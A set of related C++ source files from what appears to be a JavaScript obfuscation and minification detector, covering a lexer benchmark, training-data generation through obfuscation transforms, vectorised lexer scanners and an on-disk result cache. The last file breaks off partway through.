      source += "var s" + std::to_string(j) + " = \"";
      for (std::size_t k = 0; k < length; ++k) {
        if (escape_every != 0 && k % escape_every == 0) {
          source += "\\x41";
        } else {
          source += static_cast<char>('!' + (k * 7 + j) % 90);
          if (source.back() == '"' || source.back() == '\\') {
            source.back() = '.';
          }
        }
      }
      source += "\";\n";
    }
    sources.push_back(std::move(source));
  }
  return make_family("string_heavy", std::move(sources));
}

// Best-of-5 serial tokenize pass over the family.
double measure_ms(const Family& family) {
  double best = 1e300;
  for (int pass = 0; pass < 5; ++pass) {
    const auto start = std::chrono::steady_clock::now();
    std::size_t tokens = 0;
    for (const std::string& source : family.sources) {
      support::Arena arena;
      tokens += Lexer::tokenize(source, arena).size();
    }
    const auto stop = std::chrono::steady_clock::now();
    const double ms =
        std::chrono::duration<double, std::milli>(stop - start).count();
    if (tokens == 0) std::fprintf(stderr, "[bench] empty token stream?\n");
    best = std::min(best, ms);
  }
  return best;
}

}  // namespace
}  // namespace jst

int main() {
  using namespace jst;

  const std::size_t count = bench::scaled(48);
  std::vector<Family> families;
  families.push_back(plain_family(count));
  families.push_back(minified_family(count));
  families.push_back(jsfuck_family(count));
  families.push_back(string_heavy_family(count));

  struct PolicyRow {
    const char* name;
    lex::ScanPolicy policy;
  };
  const PolicyRow policies[] = {
      {"scalar", lex::ScanPolicy::kScalar},
      {"swar", lex::ScanPolicy::kSwar},
      {"simd", lex::ScanPolicy::kSimd},
  };

  std::printf("lexer throughput (tokenize only, best of 5, serial)\n");
  std::printf("%-14s %8s %10s %10s %10s\n", "family", "bytes", "policy",
              "wall_ms", "MB/s");

  std::vector<bench::BenchRecord> records;
  for (const Family& family : families) {
    for (const PolicyRow& row : policies) {
      lex::ScopedScanPolicy scoped(row.policy);
      // Report the policy the process actually ran (kSimd clamps to
      // kSwar on targets without a compiled 16-byte path).
      const std::string_view effective =
          lex::scan_policy_name(lex::set_scan_policy(row.policy));
      const double ms = measure_ms(family);
      const double mbps =
          static_cast<double>(family.bytes) / 1048576.0 / (ms / 1000.0);
      std::printf("%-14s %8zu %10.*s %10.3f %10.1f\n", family.name.c_str(),
                  family.bytes, static_cast<int>(effective.size()),
                  effective.data(), ms, mbps);

      bench::BenchRecord record;
      record.config = "family=" + family.name +
                      " policy=" + std::string(row.name) +
                      " effective=" + std::string(effective);
      record.threads = 1;
      record.scripts = family.sources.size();
      record.wall_ms = ms;
      record.scripts_per_second =
          static_cast<double>(family.sources.size()) / (ms / 1000.0);
      record.bytes = family.bytes;
      record.mb_per_second = mbps;
      records.push_back(std::move(record));
    }
  }

  bench::write_bench_json("lexer", records);
  return 0;
}
