#include "analysis/dataset.h"

#include <algorithm>

#include "corpus/snippets.h"
#include "support/thread_pool.h"
#include "transform/transform.h"

namespace jst::analysis {
namespace {

// Mixed-configuration stage order: injection first, encodings next,
// structural passes, renaming, minification last — the order a single
// obfuscator pipeline applies its options in. kNoAlphanumeric is excluded
// from mixes (JSFuck output supports no further passes).
int stage_of(transform::Technique technique) {
  using transform::Technique;
  switch (technique) {
    case Technique::kDeadCodeInjection: return 0;
    case Technique::kGlobalArray: return 1;
    case Technique::kStringObfuscation: return 2;
    case Technique::kControlFlowFlattening: return 3;
    case Technique::kDebugProtection: return 4;
    case Technique::kIdentifierObfuscation: return 5;
    case Technique::kMinificationAdvanced: return 6;
    case Technique::kMinificationSimple: return 7;
    case Technique::kSelfDefending: return 8;
    case Technique::kNoAlphanumeric: return 9;
  }
  return 10;
}

}  // namespace

std::vector<std::string> generate_regular_corpus(const CorpusSpec& spec) {
  corpus::ProgramGenerator generator(spec.seed);
  Rng rng(spec.seed ^ 0xabcdef12345ULL);
  std::vector<std::string> out;
  out.reserve(spec.regular_count);
  const auto snippets = corpus::seed_snippets();
  for (std::size_t i = 0; i < spec.regular_count; ++i) {
    corpus::GeneratorOptions options;
    options.flavor = static_cast<int>(rng.index(3));
    options.min_bytes = 700 + rng.index(4200);
    options.comment_line_probability = rng.uniform(0.04, 0.22);
    if (rng.bernoulli(spec.snippet_fraction)) {
      // Snippet-seeded: one or two handwritten snippets, optionally with a
      // generated tail for variety.
      std::string source(snippets[rng.index(snippets.size())]);
      if (rng.bernoulli(0.5)) {
        source += "\n";
        source += snippets[rng.index(snippets.size())];
      }
      if (rng.bernoulli(0.6)) {
        options.min_bytes = 600;
        source += "\n";
        source += generator.generate(options);
      }
      out.push_back(std::move(source));
    } else {
      out.push_back(generator.generate(options));
    }
  }
  return out;
}

Sample make_regular_sample(const std::string& source) {
  Sample sample;
  sample.source = source;
  sample.level1 = level1_from_techniques({});
  return sample;
}

Sample make_transformed_sample(const std::string& source,
                               transform::Technique technique, Rng& rng) {
  Sample sample;
  sample.source = transform::apply_technique(technique, source, rng);
  sample.techniques = transform::labels_produced(technique);
  sample.level1 = level1_from_techniques(sample.techniques);
  return sample;
}

Sample apply_configuration(const std::string& source,
                           std::vector<transform::Technique> techniques,
                           Rng& rng) {
  using transform::Technique;
  std::vector<Technique> chosen = std::move(techniques);
  std::sort(chosen.begin(), chosen.end(),
            [](Technique a, Technique b) { return stage_of(a) < stage_of(b); });

  const bool renames_identifiers =
      std::find(chosen.begin(), chosen.end(),
                Technique::kIdentifierObfuscation) != chosen.end() ||
      std::find(chosen.begin(), chosen.end(),
                Technique::kControlFlowFlattening) != chosen.end();

  std::string current(source);
  for (Technique technique : chosen) {
    if (transform::is_minification(technique) && renames_identifiers) {
      // A combined tool pipeline does not undo its own hex renaming when
      // compacting; keep the obfuscated names.
      transform::MinifyOptions options;
      options.rename_locals = false;
      options.advanced = technique == Technique::kMinificationAdvanced;
      current = transform::minify(current, options);
    } else {
      current = transform::apply_technique(technique, current, rng);
    }
  }

  Sample sample;
  sample.source = std::move(current);
  std::vector<Technique> labels;
  for (Technique technique : chosen) {
    for (Technique label : transform::labels_produced(technique)) {
      if (std::find(labels.begin(), labels.end(), label) == labels.end()) {
        labels.push_back(label);
      }
    }
  }
  sample.techniques = std::move(labels);
  sample.level1 = level1_from_techniques(sample.techniques);
  return sample;
}

Sample make_mixed_sample(const std::string& source,
                         std::size_t technique_count, Rng& rng) {
  using transform::Technique;
  // Candidate pool: everything except no-alphanumeric (JSFuck output
  // supports no further passes).
  std::vector<Technique> pool;
  for (Technique technique : transform::all_techniques()) {
    if (technique != Technique::kNoAlphanumeric) pool.push_back(technique);
  }
  rng.shuffle(pool);
  technique_count = std::min(technique_count, pool.size());
  pool.resize(technique_count);
  return apply_configuration(source, std::move(pool), rng);
}

FeatureTable extract_features(std::vector<Sample> samples,
                              const features::FeatureConfig& config) {
  FeatureTable table;
  table.samples = std::move(samples);
  table.rows.resize(table.samples.size());
  // Each sample parses + extracts independently; rows land at their own
  // index, so the table is identical for any thread count.
  support::run_parallel(0, table.samples.size(), [&](std::size_t i) {
    table.rows[i] =
        features::extract_from_source(table.samples[i].source, config);
  });
  return table;
}

ml::LabelMatrix level1_labels(const std::vector<Sample>& samples) {
  ml::LabelMatrix labels;
  labels.reserve(samples.size());
  for (const Sample& sample : samples) {
    labels.push_back({static_cast<std::uint8_t>(sample.level1.regular),
                      static_cast<std::uint8_t>(sample.level1.minified),
                      static_cast<std::uint8_t>(sample.level1.obfuscated)});
  }
  return labels;
}

ml::LabelMatrix level2_labels(const std::vector<Sample>& samples) {
  ml::LabelMatrix labels;
  labels.reserve(samples.size());
  for (const Sample& sample : samples) {
    labels.push_back(technique_row(sample.techniques));
  }
  return labels;
}

}  // namespace jst::analysis
