// Block scanners for the lexer's long homogeneous runs.
//
// Obfuscated inputs are pathologically lexer-heavy in a very particular
// way: kilobyte string blobs, identifier floods, comment walls — long
// spans where every byte is "boring" and only the first interesting byte
// (a quote, a backslash, a newline, the end of an identifier) matters.
// Each find_* function below answers exactly that simdjson-style
// question: given [from, size) of `data`, return the index of the first
// byte the scalar lexer must actually look at, or `size` when the run
// reaches the end of input.
//
// Three implementations sit behind each function:
//   * scalar — byte-at-a-time over the char_class tables; the reference
//     oracle the differential suite (test_lexer_diff) compares against,
//     and the fallback for short runs and tail bytes.
//   * swar   — 8 bytes per 64-bit word via support/swar.h, portable to
//     any 64-bit target.
//   * simd   — 16 bytes per step via SSE2 (x86-64) or NEON (AArch64),
//     selected at compile time (support/cpu.h); on targets with neither,
//     requesting it falls back to swar.
//
// Dispatch is a process-global policy resolved once from JST_LEX_SCAN
// (scalar|swar|simd|auto, default auto = widest compiled-in path) and
// overridable from tests via set_scan_policy(). The scanners only ever
// SKIP bytes — every classification decision, every line/column update,
// and all budget charging stay in the scalar lexer — so the token stream
// is bit-identical under every policy (DESIGN.md §16).
#pragma once

#include <cstddef>
#include <string_view>

namespace jst::lex {

enum class ScanPolicy : unsigned char {
  kScalar,
  kSwar,
  kSimd,
};

// The active policy (JST_LEX_SCAN on first use unless overridden).
ScanPolicy scan_policy();

// Overrides the process-global policy (tests, benches). Requesting
// kSimd on a target without a compiled-in 16-byte path selects kSwar;
// the return value is the policy actually installed.
ScanPolicy set_scan_policy(ScanPolicy policy);

std::string_view scan_policy_name(ScanPolicy policy);

// RAII policy override for tests: installs `policy`, restores the
// previous policy on destruction.
class ScopedScanPolicy {
 public:
  explicit ScopedScanPolicy(ScanPolicy policy)
      : previous_(scan_policy()) {
    set_scan_policy(policy);
  }
  ~ScopedScanPolicy() { set_scan_policy(previous_); }
  ScopedScanPolicy(const ScopedScanPolicy&) = delete;
  ScopedScanPolicy& operator=(const ScopedScanPolicy&) = delete;

 private:
  ScanPolicy previous_;
};

// --- the scanners -----------------------------------------------------
// All contracts: 0 <= from <= size, `data` valid for `size` bytes;
// returns the first index >= from whose byte is in the stop set, or
// `size` if the run covers the rest of the input.

// Identifier tail: first byte that is NOT an identifier continuation
// (continuations are [A-Za-z0-9_$] and every byte >= 0x80, matching the
// scalar lexer's UTF-8 passthrough).
std::size_t find_id_end(const char* data, std::size_t size, std::size_t from);

// Inline whitespace run: first byte not in {' ', '\t', '\v', '\f', '\r'}
// (never consumes '\n' — the trivia loop owns newline_pending_).
std::size_t find_ws_end(const char* data, std::size_t size, std::size_t from);

// Line comment / HTML-open-comment body: first '\n' or '\r'.
std::size_t find_line_end(const char* data, std::size_t size,
                          std::size_t from);

// String payload: first occurrence of `quote`, '\\', '\n', or '\r' —
// everything before it is escape-free payload the dirty-flag slicing
// keeps as a zero-copy view.
std::size_t find_string_end(const char* data, std::size_t size,
                            std::size_t from, char quote);

// Template payload: first '`', '\\', '$', or '\n' (newlines are legal in
// templates but advance the line counter, so the scalar loop takes over).
std::size_t find_template_end(const char* data, std::size_t size,
                              std::size_t from);

// Block comment body: first '*' or '\n'.
std::size_t find_block_comment_end(const char* data, std::size_t size,
                                   std::size_t from);

}  // namespace jst::lex
