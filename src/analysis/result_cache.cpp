#include "analysis/result_cache.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <utility>

#include "analysis/wire.h"
#include "obs/metrics.h"
#include "support/json_writer.h"
#include "support/strings.h"
#include "transform/technique.h"

namespace jst::analysis {
namespace {

// Record-file format version, independent of the wire schema version the
// header also pins (model_io discipline: bump on any layout change).
constexpr std::uint32_t kCacheFileVersion = 1;
constexpr std::string_view kCacheMagic = "jstcache";
constexpr std::string_view kRecordFileName = "results.ndjson";

// Cache telemetry (DESIGN.md §15). Registered on first cache
// construction; counters export from zero like every jst_* family.
struct CacheMetrics {
  obs::Counter& hits =
      obs::MetricsRegistry::global().counter("jst_cache_hit_total");
  obs::Counter& misses =
      obs::MetricsRegistry::global().counter("jst_cache_miss_total");
  obs::Counter& stores =
      obs::MetricsRegistry::global().counter("jst_cache_store_total");
  obs::Counter& evictions =
      obs::MetricsRegistry::global().counter("jst_cache_evict_total");
  obs::Counter& bypasses =
      obs::MetricsRegistry::global().counter("jst_cache_bypass_total");
  obs::Histogram& hit_ms =
      obs::MetricsRegistry::global().histogram("jst_cache_hit_ms");

  CacheMetrics() {
    obs::MetricsRegistry& registry = obs::MetricsRegistry::global();
    registry.set_help("jst_cache_hit_total",
                      "Result-cache lookups answered from a tier");
    registry.set_help("jst_cache_miss_total",
                      "Result-cache lookups that fell through to analysis");
    registry.set_help("jst_cache_store_total",
                      "Outcomes appended to the result cache");
    registry.set_help("jst_cache_evict_total",
                      "Memory-tier entries evicted by the byte budget");
    registry.set_help("jst_cache_bypass_total",
                      "Requests that bypassed the result cache");
    registry.set_help("jst_cache_hit_ms",
                      "Latency of result-cache hits (lookup to outcome)");
  }
};

CacheMetrics& cache_metrics() {
  static CacheMetrics* metrics = new CacheMetrics();  // outlives statics
  return *metrics;
}

bool parse_script_status(std::string_view text, ScriptStatus& status) {
  if (text == "ok") status = ScriptStatus::kOk;
  else if (text == "parse_error") status = ScriptStatus::kParseError;
  else if (text == "ineligible_size") status = ScriptStatus::kIneligibleSize;
  else if (text == "ineligible_ast") status = ScriptStatus::kIneligibleAst;
  else if (text == "budget_tokens") status = ScriptStatus::kBudgetTokens;
  else if (text == "budget_ast_nodes") status = ScriptStatus::kBudgetAstNodes;
  else if (text == "budget_depth") status = ScriptStatus::kBudgetDepth;
  else if (text == "deadline_exceeded") {
    status = ScriptStatus::kDeadlineExceeded;
  } else if (text == "budget_dataflow") {
    status = ScriptStatus::kBudgetDataflow;
  } else if (text == "degraded") {
    status = ScriptStatus::kDegraded;
  } else {
    return false;
  }
  return true;
}

bool parse_resource_kind(std::string_view text, ResourceKind& kind) {
  if (text == "source_bytes") kind = ResourceKind::kSourceBytes;
  else if (text == "tokens") kind = ResourceKind::kTokens;
  else if (text == "ast_nodes") kind = ResourceKind::kAstNodes;
  else if (text == "ast_depth") kind = ResourceKind::kAstDepth;
  else if (text == "dataflow_edges") kind = ResourceKind::kDataflowEdges;
  else if (text == "deadline") kind = ResourceKind::kDeadline;
  else return false;
  return true;
}

std::string header_line() {
  JsonWriter writer;
  writer.begin_object();
  writer.key("magic"); writer.value(kCacheMagic);
  writer.key("version");
  writer.value(static_cast<long long>(kCacheFileVersion));
  writer.key("wire");
  writer.value(static_cast<long long>(wire::kWireFormatVersion));
  writer.end_object();
  return writer.str();
}

// Validates one header line; a false return means the whole file is from
// another schema generation and must be discarded (never reinterpreted).
bool header_matches(const support::JsonValue& document, std::string* why) {
  const support::JsonValue* magic = document.find("magic");
  if (magic == nullptr || magic->as_string() != kCacheMagic) {
    *why = "bad magic (not a jstcache record file)";
    return false;
  }
  const support::JsonValue* version = document.find("version");
  if (version == nullptr || !version->is_number() ||
      static_cast<std::uint32_t>(version->as_number()) != kCacheFileVersion) {
    *why = "cache file version mismatch (expected " +
           std::to_string(kCacheFileVersion) + ")";
    return false;
  }
  const support::JsonValue* wire_version = document.find("wire");
  if (wire_version == nullptr || !wire_version->is_number() ||
      static_cast<std::uint32_t>(wire_version->as_number()) !=
          wire::kWireFormatVersion) {
    *why = "wire version mismatch (expected " +
           std::to_string(wire::kWireFormatVersion) + ")";
    return false;
  }
  return true;
}

bool write_all_fd(int fd, std::string_view data) {
  while (!data.empty()) {
    const ssize_t n = ::write(fd, data.data(), data.size());
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    data.remove_prefix(static_cast<std::size_t>(n));
  }
  return true;
}

}  // namespace

std::string limits_fingerprint(const ResourceLimits& limits) {
  char canonical[160];
  const int length = std::snprintf(
      canonical, sizeof(canonical), "%zu|%zu|%zu|%zu|%zu|%.17g",
      limits.max_source_bytes, limits.max_tokens, limits.max_ast_nodes,
      limits.max_ast_depth, limits.max_dataflow_edges, limits.deadline_ms);
  char hex[17];
  std::snprintf(hex, sizeof(hex), "%016llx",
                static_cast<unsigned long long>(strings::fnv1a(
                    std::string_view(canonical,
                                     static_cast<std::size_t>(length)))));
  return std::string(hex, 16);
}

std::optional<ScriptOutcome> parse_script_outcome(
    const support::JsonValue& value) {
  if (!value.is_object()) return std::nullopt;
  ScriptOutcome outcome;

  const support::JsonValue* status = value.find("status");
  if (status == nullptr || !status->is_string() ||
      !parse_script_status(status->as_string(), outcome.status)) {
    return std::nullopt;
  }
  if (const support::JsonValue* message = value.find("error")) {
    if (!message->is_string()) return std::nullopt;
    outcome.error_message = message->as_string();
  }

  const support::JsonValue* timing = value.find("timing");
  if (timing == nullptr || !timing->is_object()) return std::nullopt;
  const auto timing_field = [&](const char* name, double& field) {
    const support::JsonValue* member = timing->find(name);
    if (member == nullptr || !member->is_number()) return false;
    field = member->as_number();
    return true;
  };
  if (!timing_field("total_ms", outcome.timing.total_ms) ||
      !timing_field("static_analysis_ms", outcome.timing.static_analysis_ms) ||
      !timing_field("features_ms", outcome.timing.features_ms) ||
      !timing_field("inference_ms", outcome.timing.inference_ms)) {
    return std::nullopt;
  }

  const support::JsonValue* budget = value.find("budget");
  if (budget == nullptr) return std::nullopt;  // always emitted at kFull
  if (budget->is_object()) {
    BudgetTrip trip;
    const support::JsonValue* kind = budget->find("kind");
    if (kind == nullptr || !kind->is_string() ||
        !parse_resource_kind(kind->as_string(), trip.kind)) {
      return std::nullopt;
    }
    const support::JsonValue* limit = budget->find("limit");
    const support::JsonValue* observed = budget->find("observed");
    const support::JsonValue* stage = budget->find("stage");
    if (limit == nullptr || !limit->is_number() || observed == nullptr ||
        !observed->is_number() || stage == nullptr || !stage->is_string()) {
      return std::nullopt;
    }
    trip.limit = limit->as_number();
    trip.observed = observed->as_number();
    trip.stage = stage->as_string();
    outcome.budget = std::move(trip);
  } else if (!budget->is_null()) {
    return std::nullopt;
  }

  if (const support::JsonValue* skipped = value.find("skipped_stages")) {
    if (!skipped->is_array()) return std::nullopt;
    for (const support::JsonValue& stage : skipped->as_array()) {
      if (!stage.is_string()) return std::nullopt;
      outcome.skipped_stages.push_back(stage.as_string());
    }
  }
  if (const support::JsonValue* partial = value.find("partial_features")) {
    if (!partial->is_array()) return std::nullopt;
    outcome.partial_features.reserve(partial->as_array().size());
    for (const support::JsonValue& feature : partial->as_array()) {
      if (!feature.is_number()) return std::nullopt;
      outcome.partial_features.push_back(
          static_cast<float>(feature.as_number()));
    }
  }

  const support::JsonValue* report = value.find("report");
  if (report == nullptr) return std::nullopt;  // always emitted at kFull
  if (report->is_object()) {
    outcome.report.status = outcome.status;
    const auto probability = [&](const char* name, double& field) {
      const support::JsonValue* member = report->find(name);
      if (member == nullptr || !member->is_number()) return false;
      field = member->as_number();
      return true;
    };
    if (!probability("p_regular", outcome.report.level1.p_regular) ||
        !probability("p_minified", outcome.report.level1.p_minified) ||
        !probability("p_obfuscated", outcome.report.level1.p_obfuscated)) {
      return std::nullopt;
    }
    const support::JsonValue* confidence =
        report->find("technique_confidence");
    if (confidence == nullptr || !confidence->is_array()) return std::nullopt;
    for (const support::JsonValue& entry : confidence->as_array()) {
      if (!entry.is_number()) return std::nullopt;
      outcome.report.technique_confidence.push_back(entry.as_number());
    }
    const support::JsonValue* techniques = report->find("techniques");
    if (techniques == nullptr || !techniques->is_array()) return std::nullopt;
    for (const support::JsonValue& name : techniques->as_array()) {
      if (!name.is_string()) return std::nullopt;
      const std::optional<transform::Technique> technique =
          transform::technique_from_name(name.as_string());
      if (!technique.has_value()) return std::nullopt;
      outcome.report.techniques.push_back(*technique);
    }
  } else if (!report->is_null()) {
    return std::nullopt;
  } else {
    // Report-less outcome: mirror the status so in-process callers see
    // report.status == outcome.status, as the pipeline leaves it.
    outcome.report.status = outcome.status;
  }
  return outcome;
}

std::string ResultCache::make_key(std::string_view content_hash,
                                  std::string_view model_fingerprint,
                                  const ResourceLimits& limits) {
  std::string key;
  key.reserve(content_hash.size() + model_fingerprint.size() + 16 + 8);
  key.append(content_hash);
  key.push_back('|');
  key.append(model_fingerprint);
  key.push_back('|');
  key.append(limits_fingerprint(limits));
  key.append("|v");
  key.append(std::to_string(wire::kWireFormatVersion));
  return key;
}

ResultCache::ResultCache(Config config) : config_(std::move(config)) {
  cache_metrics();  // register the family even if this cache stays cold
  if (config_.dir.empty()) return;
  // Create the leaf directory if absent (parents must exist) — the
  // common --cache-dir flow points at a not-yet-created scratch dir.
  if (::mkdir(config_.dir.c_str(), 0755) != 0 && errno != EEXIST) {
    load_error_ = config_.dir + ": mkdir: " + std::strerror(errno);
    return;
  }
  path_ = config_.dir;
  if (path_.back() != '/') path_.push_back('/');
  path_.append(kRecordFileName);
  fd_ = ::open(path_.c_str(), O_RDWR | O_CREAT | O_APPEND, 0644);
  if (fd_ < 0) {
    load_error_ = path_ + ": " + std::strerror(errno);
    path_.clear();
    return;
  }
  std::lock_guard<std::mutex> lock(mutex_);
  load_locked();
}

ResultCache::~ResultCache() {
  if (fd_ >= 0) ::close(fd_);
}

void ResultCache::load_locked() {
  // Read the whole record file (cache files are line-oriented and
  // append-only, so a single sequential read is the fast path).
  std::string contents;
  char chunk[64 * 1024];
  for (;;) {
    const ssize_t n = ::read(fd_, chunk, sizeof(chunk));
    if (n < 0) {
      if (errno == EINTR) continue;
      load_error_ = path_ + ": read: " + std::strerror(errno);
      return;
    }
    if (n == 0) break;
    contents.append(chunk, static_cast<std::size_t>(n));
  }

  if (contents.empty()) {
    // Fresh file: write the header so the next open validates it.
    const std::string header = header_line() + "\n";
    if (!write_all_fd(fd_, header)) {
      load_error_ = path_ + ": write header: " + std::strerror(errno);
    }
    return;
  }

  std::uint64_t offset = 0;
  bool header_seen = false;
  bool truncate_at_offset = false;
  while (offset < contents.size()) {
    const std::size_t newline = contents.find('\n', offset);
    if (newline == std::string::npos) {
      // A line without its newline is a torn append; drop it.
      truncate_at_offset = true;
      break;
    }
    const std::string_view line(contents.data() + offset, newline - offset);
    const std::uint64_t line_length = newline - offset + 1;
    std::optional<support::JsonValue> document = support::parse_json(line);
    if (!document.has_value() || !document->is_object()) {
      truncate_at_offset = true;
      break;
    }
    if (!header_seen) {
      std::string why;
      if (!header_matches(*document, &why)) {
        // Another generation's file: discard it wholesale and restart
        // with a fresh header (model_io discipline — never reinterpret).
        load_error_ = path_ + ": " + why + "; starting fresh";
        if (::ftruncate(fd_, 0) == 0) {
          const std::string header = header_line() + "\n";
          if (!write_all_fd(fd_, header)) {
            load_error_ += " (header rewrite failed)";
          }
        }
        return;
      }
      header_seen = true;
      offset += line_length;
      continue;
    }
    const support::JsonValue* key = document->find("key");
    const support::JsonValue* outcome_value = document->find("outcome");
    if (key == nullptr || !key->is_string() || outcome_value == nullptr) {
      truncate_at_offset = true;
      break;
    }
    std::optional<ScriptOutcome> outcome =
        parse_script_outcome(*outcome_value);
    if (!outcome.has_value()) {
      truncate_at_offset = true;
      break;
    }
    disk_index_[key->as_string()] = DiskRecord{offset, line_length};
    // Warm the memory tier in file order: the newest appends land at the
    // front of the LRU and survive the byte budget longest.
    insert_memory_locked(key->as_string(), *outcome, line.size());
    offset += line_length;
  }
  if (truncate_at_offset) {
    load_error_ = path_ + ": corrupt record at byte " +
                  std::to_string(offset) + "; truncated";
    if (::ftruncate(fd_, static_cast<off_t>(offset)) != 0) {
      load_error_ += " (truncate failed: ";
      load_error_ += std::strerror(errno);
      load_error_ += ")";
    }
  }
  counters_.disk_records = disk_index_.size();
}

void ResultCache::insert_memory_locked(const std::string& key,
                                       const ScriptOutcome& outcome,
                                       std::size_t outcome_bytes) {
  const auto existing = index_.find(key);
  if (existing != index_.end()) {
    memory_bytes_ -= existing->second->bytes;
    lru_.erase(existing->second);
    index_.erase(existing);
  }
  const std::size_t entry_bytes = key.size() + outcome_bytes;
  if (entry_bytes > config_.max_bytes) return;  // never fits; disk only
  while (!lru_.empty() && memory_bytes_ + entry_bytes > config_.max_bytes) {
    memory_bytes_ -= lru_.back().bytes;
    index_.erase(lru_.back().key);
    lru_.pop_back();
    ++counters_.evictions;
    cache_metrics().evictions.add(1);
  }
  lru_.emplace_front(MemoryEntry{key, outcome, entry_bytes});
  memory_bytes_ += entry_bytes;
  index_.emplace(key, lru_.begin());
}

bool ResultCache::read_disk_locked(const std::string& key,
                                   ScriptOutcome& outcome) {
  const auto it = disk_index_.find(key);
  if (it == disk_index_.end() || fd_ < 0) return false;
  std::string line(it->second.length, '\0');
  const ssize_t n = ::pread(fd_, line.data(), line.size(),
                            static_cast<off_t>(it->second.offset));
  if (n != static_cast<ssize_t>(line.size())) return false;
  std::optional<support::JsonValue> document = support::parse_json(
      std::string_view(line.data(), line.size() - 1));  // strip newline
  if (!document.has_value()) return false;
  const support::JsonValue* outcome_value = document->find("outcome");
  if (outcome_value == nullptr) return false;
  std::optional<ScriptOutcome> parsed = parse_script_outcome(*outcome_value);
  if (!parsed.has_value()) return false;
  outcome = *std::move(parsed);
  return true;
}

std::optional<ScriptOutcome> ResultCache::lookup(const std::string& key) {
  const auto started = std::chrono::steady_clock::now();
  const auto hit_latency = [&] {
    return std::chrono::duration<double, std::milli>(
               std::chrono::steady_clock::now() - started)
        .count();
  };
  std::lock_guard<std::mutex> lock(mutex_);
  const auto it = index_.find(key);
  if (it != index_.end()) {
    lru_.splice(lru_.begin(), lru_, it->second);
    ++counters_.hits;
    cache_metrics().hits.add(1);
    cache_metrics().hit_ms.record(hit_latency());
    return it->second->outcome;
  }
  ScriptOutcome outcome;
  if (read_disk_locked(key, outcome)) {
    const auto record = disk_index_.find(key);
    insert_memory_locked(key, outcome,
                         static_cast<std::size_t>(record->second.length));
    ++counters_.hits;
    cache_metrics().hits.add(1);
    cache_metrics().hit_ms.record(hit_latency());
    return outcome;
  }
  ++counters_.misses;
  cache_metrics().misses.add(1);
  return std::nullopt;
}

bool ResultCache::contains(const std::string& key) const {
  std::lock_guard<std::mutex> lock(mutex_);
  return index_.contains(key) || disk_index_.contains(key);
}

void ResultCache::store(const std::string& key, const ScriptOutcome& outcome) {
  if (!cacheable(outcome)) return;
  const std::string outcome_json =
      wire::script_outcome_json(outcome, OutputDetail::kFull);
  std::lock_guard<std::mutex> lock(mutex_);
  if (fd_ >= 0) {
    if (!append_locked(key, outcome_json)) return;
  }
  insert_memory_locked(key, outcome, outcome_json.size());
  ++counters_.stores;
  cache_metrics().stores.add(1);
}

bool ResultCache::append_locked(const std::string& key,
                                const std::string& outcome_json) {
  JsonWriter writer;
  writer.begin_object();
  writer.key("key"); writer.value(key);
  writer.key("outcome"); writer.raw(outcome_json);
  writer.end_object();
  std::string line = writer.str();
  line.push_back('\n');
  const off_t end = ::lseek(fd_, 0, SEEK_END);
  if (end < 0 || !write_all_fd(fd_, line)) {
    // A failed append may have torn the tail; the next load truncates it.
    return false;
  }
  disk_index_[key] =
      DiskRecord{static_cast<std::uint64_t>(end), line.size()};
  counters_.disk_records = disk_index_.size();
  return true;
}

void ResultCache::note_bypass() {
  std::lock_guard<std::mutex> lock(mutex_);
  ++counters_.bypasses;
  cache_metrics().bypasses.add(1);
}

ResultCache::Counters ResultCache::counters() const {
  std::lock_guard<std::mutex> lock(mutex_);
  Counters snapshot = counters_;
  snapshot.entries = index_.size();
  snapshot.bytes = memory_bytes_;
  snapshot.disk_records = disk_index_.size();
  return snapshot;
}

}  // namespace jst::analysis
