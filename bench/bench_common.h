// Shared infrastructure for the study benches: one trained analyzer per
// process (scale via JSTRACED_BENCH_SCALE), and formatting helpers that
// print each reproduced number next to the paper's reported value.
#pragma once

#include <string>
#include <string_view>

#include "analysis/pipeline.h"
#include "analysis/service.h"
#include "analysis/wild.h"

namespace jst::bench {

// Scale factor: 1 = quick defaults (minutes for the full suite).
// JSTRACED_BENCH_SCALE=4 approaches paper-protocol sizes.
double scale();

// Scaled count helper.
std::size_t scaled(std::size_t base);

// Builds and trains the shared analyzer (cached per process).
const analysis::TransformationAnalyzer& analyzer();

// Fresh regular corpus disjoint from training (seeded differently).
std::vector<std::string> held_out_regular(std::size_t count,
                                          std::uint64_t seed);

// --- output helpers ---

void print_header(std::string_view title, std::string_view paper_ref);
void print_row(std::string_view metric, double paper_value,
               double measured_value, std::string_view unit = "%");
void print_note(std::string_view text);
void print_series_header(std::string_view x_label,
                         std::string_view series_names);
void print_footer();

// Measured transformed-rate of a simulated population under the trained
// level-1 detector.
struct PopulationMeasurement {
  double transformed_rate = 0.0;
  double minified_rate = 0.0;
  double obfuscated_rate = 0.0;
  // Average level-2 confidence per technique over transformed scripts.
  std::vector<double> technique_confidence;
  std::size_t script_count = 0;
};

PopulationMeasurement measure_population(const analysis::PopulationSpec& spec,
                                         std::size_t count,
                                         std::uint64_t seed);

}  // namespace jst::bench
