#include "analysis/pipeline.h"

#include <chrono>
#include <istream>
#include <ostream>
#include <string>

#include "analysis/model_io.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "support/error.h"
#include "support/thread_pool.h"

namespace jst::analysis {
namespace {

double ms_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double, std::milli>(
             std::chrono::steady_clock::now() - start)
      .count();
}

// Per-script pipeline telemetry (DESIGN.md §9). The histograms mirror
// StageTimings, so no extra clock reads happen — recording is a handful
// of relaxed atomic adds per script.
struct ScriptMetrics {
  obs::Counter& scripts =
      obs::MetricsRegistry::global().counter("jst_scripts_total");
  obs::Counter& parse_errors =
      obs::MetricsRegistry::global().counter("jst_scripts_parse_errors_total");
  obs::Histogram& total_ms =
      obs::MetricsRegistry::global().histogram("jst_script_total_ms");
  obs::Histogram& static_analysis_ms =
      obs::MetricsRegistry::global().histogram("jst_stage_static_analysis_ms");
  obs::Histogram& features_ms =
      obs::MetricsRegistry::global().histogram("jst_stage_features_ms");
  obs::Histogram& inference_ms =
      obs::MetricsRegistry::global().histogram("jst_stage_inference_ms");
};

ScriptMetrics& script_metrics() {
  static ScriptMetrics* metrics = new ScriptMetrics();  // outlives statics
  return *metrics;
}

void record_outcome_metrics(const ScriptOutcome& outcome) {
  ScriptMetrics& metrics = script_metrics();
  metrics.scripts.add(1);
  metrics.total_ms.record(outcome.timing.total_ms);
